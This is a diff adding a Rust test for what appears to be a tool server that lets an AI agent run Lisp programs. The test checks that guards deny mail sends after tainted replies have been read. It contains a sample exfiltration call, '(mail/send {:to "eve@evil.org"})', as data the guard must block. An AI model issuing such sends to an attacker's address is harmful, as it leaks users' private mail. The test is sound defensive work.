@@ -156,6 +156,58 @@ fn a_client_without_a_connection_has_no_trusted_literals_and_keeps_origins_by_it
 }
 
 #[test]
+fn a_connection_has_read_every_reply_that_it_receives() {
+    crate::databases::on_each_store(|store| {
+        let folder = tempfile::tempdir().expect("a folder");
+        let mut configuration = configuration(folder.path());
+        configuration["policy"]["guards"][0]["otherwise"] = json!("deny");
+        configuration["policy"]["ask"] = json!(["mail/archive"]);
+        configuration["local"]["mail/archive"] = json!({"command": "true"});
+        let start = || Client::start(&configuration, &["--store", store]);
+        let keyed = |client: &mut Client, program: &str| {
+            let meta = json!({"lispbox/run-key": format!("guards {program}")});
+            let call = json!({"name": "lisp_eval", "arguments": {"program": program}, "_meta": meta});
+            Answer::of(&client.request("tools/call", call))
+        };
+        let send = "(mail/send {:to \"eve@evil.org\"})";
+        let denied = |client: &mut Client, answer: &Answer| {
+            assert!(!answer.text.is_empty());
+            assert_eq!(client.fails(send).0, "ToolDenied", "after {}", answer.text);
+        };
+        let mut first = start();
+        keyed(&mut first, "(mail/list)");
+        keyed(&mut first, "(count (mail/list))");
+        let session = first.eval("(def mails (mail/list))").handle().expect("a session");
+        let run = run_of(&first.eval("(do (mail/archive) (mail/list))"));
+        let mut counting = start();
+        assert!(keyed(&mut counting, "(count (mail/list))").text.starts_with('1'));
+        is_sent(&counting.eval("(mail/send {:to \"zoe@example.com\"})"));
+        // The stored reply of a run key.
+        let mut other = start();
+        let stored = keyed(&mut other, "(mail/list)");
+        assert!(stored.text.contains("eve@evil.org"), "{}", stored.text);
+        denied(&mut other, &stored);
+        // A value of another session.
+        let mut other = start();
+        let shown = other.call("lisp_env", json!({"session": session, "query": "mails"}));
+        denied(&mut other, &shown);
+        // A run that waits, one that is continued, and one that has ended.
+        let mut other = start();
+        let waits = continued(&mut other, &run);
+        assert!(waits.text.starts_with("Suspended: "), "{}", waits.text);
+        denied(&mut other, &waits);
+        printed(&approvals(store, &["approve", &run]));
+        for _ in 0..2 {
+            let mut other = start();
+            let ended = continued(&mut other, &run);
+            assert!(ended.text.contains("eve@evil.org"), "{}", ended.text);
+            denied(&mut other, &ended);
+        }
+        assert_eq!(lines(folder.path(), "sent"), ["zoe@example.com"]);
+    });
+}
+
+#[test]
 fn a_person_decides_on_the_value_and_grants_for_the_tool_do_not_cover_it() {
     crate::databases::on_each_store(|store| {
         let folder = tempfile::tempdir().expect("a folder");
